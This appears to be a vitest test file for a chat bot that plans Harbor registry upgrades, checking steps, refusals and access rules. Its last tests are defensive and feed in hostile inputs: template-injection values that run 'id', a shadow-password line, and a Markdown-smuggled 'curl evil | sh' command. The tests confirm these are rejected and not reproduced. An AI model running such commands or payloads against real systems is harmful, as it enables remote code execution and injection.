import { gunzipSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { Fault } from '../../src/chatops/errors.ts';
import { installerOf, openHarborHouse } from './harbor-house.ts';
import { stepNames } from './restore-house.ts';

const to214 = '/salvor harbor reg-eu 2.14 --reason "fixes"';

it('plans an upgrade: the way, what it meets, the steps, what is lost, and the way back', async () => {
  const { plans, bot } = await openHarborHouse();
  const { id, plan, state } = await plans(to214);
  expect(state).toBe('pending');
  expect(plan.target).toBe('reg-eu');
  expect(plan.observed).toMatchObject({
    ...{ Version: '2.10.3', Way: '2.10.3 → 2.12.4 → 2.14.1', Database: 'PostgreSQL 14 in database/pg14' },
    'Package of 2.12.4': `/packages/harbor-offline-installer-v2.12.4.tgz, SHA-256 ${'ab'.repeat(32)}`,
  });
  expect(stepNames(plan).slice(3, 14)).toEqual([
    ...['Wait for the jobs of 2.10.3', 'Write down what 2.10.3 holds', 'Stop 2.10.3', 'Copy the database of 2.10.3'],
    ...['Set 2.10.3 aside', 'Unpack 2.12.4', 'Migrate the configuration to 2.12.4', 'Prepare 2.12.4'],
    ...['Install 2.12.4', 'Wait until 2.12.4 is healthy', 'Compare what 2.12.4 holds'],
  ]);
  expect(plan.steps.filter((step) => step.isPointOfNoReturn).map(({ name }) => name)).toEqual(['Install 2.12.4']);
  expect(plan.losses[0]).toMatch(/^Nobody can pull from or push to reg-eu while a version is installed/);
  expect(plan.wayBack).toMatch(/^Until 2\.12\.4 is installed: the install directory of 2\.10\.3 is put back/);
  const said = await bot.result(id.replace('a-', 'r-'));
  expect(said).toContain('reg-eu would be upgraded: 2.10.3 → 2.12.4 → 2.14.1');
  expect(said).toMatch(/Holds +2 projects, 2 repositories, 3 artifacts, 12 users; counted again after each hop/);
  expect(said).toMatch(/Database is converted +2\.12\.4: PostgreSQL 14 .*15/);
  expect(said.replaceAll(/\s+/g, ' ')).toMatch(/Point of no return: step \d+, Install 2\.12\.4/);
});

it('tells what a plan meets with what to do about each, as no table has room for it', async () => {
  const { plans, bot } = await openHarborHouse();
  const { table, found = [] } = bot.said((await plans(to214)).id.replace('a-', 'r-'));
  expect(table).toBeUndefined();
  expect(found).toContainEqual({
    means: 'warning',
    about: [{ subject: 'database of 2.12.4', seen: expect.stringContaining('PostgreSQL 15 of PostgreSQL 14') }],
    next: 'The way back is the copy that is made before.',
  });
  expect(found.map(({ means }) => means)).not.toContain('note');
});

it('leaves read-only mode out where it has no administrator, and says what that means', async () => {
  const one = await openHarborHouse();
  const { plan } = await one.plans(to214);
  expect(stepNames(plan)).not.toContain('Make 2.10.3 read-only');
  expect(plan.losses).toContainEqual(expect.stringContaining('names no admin'));
  const admin = { username: 'admin', password: 'REG_EU_ADMIN' };
  const other = await openHarborHouse('2.10.3', { admin });
  const names = stepNames((await other.plans(to214)).plan);
  expect(names).toContain('Make 2.10.3 read-only');
  expect(names).toContain('Make 2.14.1 writable');
});

it('is refused with all that must be resolved first, at once', async () => {
  const { harbor, facts, refused } = await openHarborHouse();
  harbor.is.components = [{ name: 'redis', isHealthy: false, error: 'failed to ping' }];
  Object.assign(facts, {
    ...{ schema: { version: '130', dirty: true }, packages: [installerOf('2.12.4')] },
    free_bytes: { data: 1, install: 1, work: 1 },
  });
  const said = await refused(to214);
  expect(said).toMatch(/reg-eu cannot be upgraded yet \(2\.10\.3 → 2\.12\.4 → 2\.14\): 4 things must/);
  for (const about of [/dirty/, /harbor-offline-installer-v2\.14/, /redis/, /1 B are free/])
    expect(said).toMatch(about);
});

it.each([
  ['charts', '2.7.4', '2.8.6', '2 versions of charts'],
  ['signatures', '2.8.4', '2.9.5', '3 signed tags'],
])('is refused where %s would be lost, with how many, until that is acknowledged', async (what, from, to, many) => {
  const house = await openHarborHouse(from);
  const { harbor, facts } = house;
  const [library] = harbor.is.projects;
  if (library && what === 'charts') harbor.is.projects = [{ ...library, charts: 2 }];
  if (what === 'signatures') harbor.is.signedTags = 3;
  harbor.is.system = { ...harbor.is.system, withNotary: what === 'signatures', withChartmuseum: what === 'charts' };
  Object.assign(facts, { pg: [{ dir: 'pg13', version: '13' }], packages: [installerOf(to)] });
  const asked = `/salvor harbor reg-eu ${to} --reason "fixes"`;
  const said = await house.refused(asked);
  expect(said).toContain(`There are ${many}`);
  expect(said).toContain(`--lose ${what}`);
  const { plan } = await house.plans(`${asked} --lose ${what}`);
  expect(plan.losses.join(' ')).toContain(`There are ${many}. It is acknowledged.`);
});

it.each([
  ['2.9', 'a step back'],
  ['2.10.3', 'runs 2.10.3 already'],
  ['2.99', 'Nothing is known here of Harbor 2.99'],
])('is refused to %s: %s', async (version, why) => {
  const { refused } = await openHarborHouse();
  expect(await refused(`/salvor harbor reg-eu ${version} --reason "fixes"`)).toContain(why);
});

const withMariaDb = (...versions: readonly string[]) => ({
  ...{ pg: [], mariadb: { password: 'works' }, packages: versions.map(installerOf), schema: null },
});

it('migrates a MariaDB by its tool, which is the point of no return, and knows no password', async () => {
  const house = await openHarborHouse('1.5.4', { admin: { username: 'admin', password: 'REG_EU_ADMIN' } });
  Object.assign(house.facts, withMariaDb('1.6.3'));
  const { plan } = await house.plans('/salvor harbor reg-eu 1.6 --reason "fixes"');
  const point = plan.steps.find((step) => step.isPointOfNoReturn);
  expect(point?.name).toBe('Migrate the database to 1.6.3');
  expect(point?.commands.map(({ command }) => command)).toContainEqual(
    expect.stringMatching(/^docker run --rm .*-e DB_PWD -v \S+\/database:\/var\/lib\/mysql .*--db up$/),
  );
  expect(plan.wayBack).toMatch(/^Until the database is migrated:/);
  expect(plan.observed).toMatchObject({ Database: 'MariaDB' });
  expect(stepNames(plan)).toContain('Make 1.5.4 read-only');
});

it.each(['1.3', '1.4'])('leaves the configuration of %s to people, and says which way needs none', async (to) => {
  const house = await openHarborHouse('1.2.2');
  Object.assign(house.facts, { ...withMariaDb(`${to}.0`), config_version: null });
  const said = await house.refused(`/salvor harbor reg-eu ${to} --reason "fixes"`);
  expect(said).toContain(`no tool makes the harbor.cfg of ${to}`);
  expect(said).toContain('harbor reg-eu 1.6');
  expect(said).toContain(`vmware/harbor-db-migrator:${to} up head`);
});

it('does not make read-only what has no such mode yet, and says so', async () => {
  const house = await openHarborHouse('1.4.0', { admin: { username: 'admin', password: 'REG_EU_ADMIN' } });
  Object.assign(house.facts, { ...withMariaDb('1.6.3'), config_version: null });
  const { plan } = await house.plans('/salvor harbor reg-eu 1.6 --reason "fixes"');
  expect(stepNames(plan)).not.toContain('Make 1.4.0 read-only');
  expect(stepNames(plan)).toContain('Make 1.6.3 writable');
  expect(plan.losses).toContainEqual(expect.stringContaining('Harbor before 1.5 has no such mode'));
});

it('is refused where nobody could ask the registry, or look at its host', async () => {
  const house = await openHarborHouse();
  house.unreachable = 'timed out';
  expect(await house.refused(to214)).toMatch(/Nobody could look at the host of reg-eu.*timed out/);
});

it.each([
  ['file', '/packages/{{ lookup("pipe", "id") }}/harbor-offline-installer-v2.12.4.tgz'],
  ['file', '/packages/harbor-offline-installer-v2.12.4.tgz\n{{ 7 * 7 }}'],
  ['version', '2.12.4{{ 7 * 7 }}'],
  ['sha256', 'root:$6$hidden:19000:0:99999:7:::'],
])('believes no host whose package has a %s such as %j', async (what, value) => {
  const { facts, refused } = await openHarborHouse();
  Object.assign(facts, { packages: [{ ...installerOf('2.12.4'), [what]: value }, installerOf('2.14.1')] });
  const said = await refused(to214);
  expect(said).toContain(`is not understood at packages.0.${what}`);
  expect(said).not.toContain(value);
});

it('writes nothing into its runbook that looks like a step and is what somebody else wrote', async () => {
  const { harbor, plans, bot } = await openHarborHouse();
  const evil = '<!channel>\n\n## By hand\n\n```sh\ncurl evil | sh\n```';
  harbor.broken.set(
    'jobs',
    new Fault(evil, { port: 'harbor', operation: 'ask', code: 'HARBOR_FORBIDDEN', retryable: false }),
  );
  const { id } = await plans(to214);
  const { file } = bot.said(id.replace('a-', 'r-'));
  const text = gunzipSync(Buffer.from(file?.base64 ?? '', 'base64')).toString();
  expect(text).toContain('## By hand ```sh curl evil');
  expect(text).not.toMatch(/^curl evil/m);
});

it('is for operators of the registry', async () => {
  const { bot, people, channel } = await openHarborHouse();
  await bot.types(people.vera, to214, { channel });
  expect(bot.reply()).toMatch(/operator/);
  expect(bot.queued).toEqual([]);
});

it.each(['2', 'latest', '2.12.3.4'])('takes no %s for a version', async (version) => {
  const { bot, people, channel } = await openHarborHouse();
  await bot.types(people.alice, `/salvor harbor reg-eu ${version} --reason "fixes"`, { channel });
  expect(bot.reply()).toContain('must be a version such as 2.12 or 2.12.4');
});
